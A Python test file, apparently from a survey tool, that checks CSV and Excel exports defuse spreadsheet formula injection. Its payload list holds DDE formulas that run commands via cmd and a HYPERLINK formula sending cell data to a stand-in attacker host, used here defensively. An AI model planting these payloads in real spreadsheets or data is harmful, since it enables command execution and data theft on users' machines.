"""Text that a spreadsheet would run: in no file that leaves is it a formula."""

import csv
from io import StringIO

import openpyxl
import pytest

from cpd_eval.store import drafts, invitations, responses
from cpd_eval.store.outlet.deliver import export_responses

# From OWASP's "CSV Injection" and what LibreOffice and Excel take besides.
FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "  =1+1",
    "＝1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    '=1+1"',
)


@pytest.fixture(scope="module")
def exported(served, tmp_path_factory):
    db = served.desk.store()
    for number, formula in enumerate(FORMULAS):
        invitation = invitations.find(db, served.invite(f"formula-{number}"))
        key = responses.start_or_resume(db, invitation).response_id
        responses.record(db, key, {"happy": "4", "why": formula}, by="self")
        responses.submit(db, key, shown=drafts.get_draft(db, key).raw)
    folder = tmp_path_factory.mktemp("formulas") / "out"
    export_responses(db, folder, form_ids=["pulse"], formats=["csv", "xlsx"], has_long=True)
    return folder


def test_no_cell_of_a_csv_begins_as_a_formula(exported):
    cells = [
        cell
        for file in exported.rglob("*.csv")
        for row in csv.reader(StringIO(file.read_bytes().decode("utf-8-sig"), newline=""))
        for cell in row
    ]
    assert [
        one for one in cells if one.lstrip()[:1] in set("=+@＝") or one[:1] in set("\t\r")
    ] == []
    assert [one for one in cells if "cmd|" in one]


def test_no_cell_of_a_workbook_is_a_formula(exported):
    seen = 0
    for file in exported.rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(file):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (file.name, cell.coordinate, cell.value)
                    seen += "cmd|" in str(cell.value)
    assert seen


def test_a_filled_workbook_of_a_form_computes_no_answer(tmp_path):
    from cpd_eval.forms.offline.book import write_workbook
    from cpd_eval.forms.read import read_form_text

    form = read_form_text(
        "| survey | type | name | label |\n|  | text | a | =1+1 |\n|  | text | b | B |\n"
        "| settings | form_title | form_id |\n| | =1+1 | f |\n"
    )
    file = tmp_path / "f.xlsx"
    write_workbook(form, file, answers={"b": "=cmd|' /C calc'!A0"})
    for sheet in openpyxl.load_workbook(file):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert "cmd" not in str(cell.value)
                    assert str(cell.value) != "=1+1"
